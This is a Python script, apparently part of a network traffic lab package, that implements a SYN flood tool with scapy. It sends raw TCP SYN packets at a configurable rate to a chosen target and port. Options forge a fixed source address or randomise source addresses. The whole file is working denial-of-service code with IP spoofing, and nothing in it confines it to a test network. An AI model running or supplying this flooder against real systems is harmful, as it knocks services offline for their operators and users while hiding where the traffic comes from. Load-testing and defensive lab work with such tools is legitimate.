"""A SYN flooder built with scapy, for machines without hping3.

    python -m taplab.traffic.scapyflood --target 10.244.1.3 --port 80 --rate 1000 \\
        --seconds 3 [--spoof 10.9.9.9 | --rand-source]

Sends rate SYNs per second from random source ports through a raw socket and
prints ``{"sent": N, "seconds": S}``.
"""

import argparse
import json
import random
import socket
import time

from scapy.layers.inet import IP, TCP


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--target", required=True)
    parser.add_argument("--port", type=int, default=80)
    parser.add_argument("--rate", type=float, default=1000)
    parser.add_argument("--seconds", type=float, default=3)
    parser.add_argument("--spoof", help="source address to forge")
    parser.add_argument("--rand-source", action="store_true", help="random source addresses")
    args = parser.parse_args()
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    rng = random.Random()
    start = time.monotonic()
    sent = 0
    while (elapsed := time.monotonic() - start) < args.seconds:
        ahead = sent / args.rate - elapsed
        if ahead > 0:
            time.sleep(ahead)
        ip = IP(dst=args.target)
        if args.rand_source:
            ip.src = socket.inet_ntoa(rng.getrandbits(32).to_bytes(4, "big"))
        elif args.spoof:
            ip.src = args.spoof
        packet = ip / TCP(
            sport=rng.randint(1024, 65535), dport=args.port, flags="S", seq=rng.getrandbits(32)
        )
        sock.sendto(bytes(packet), (args.target, 0))
        sent += 1
    print(json.dumps({"sent": sent, "seconds": round(time.monotonic() - start, 3)}), flush=True)


if __name__ == "__main__":
    main()
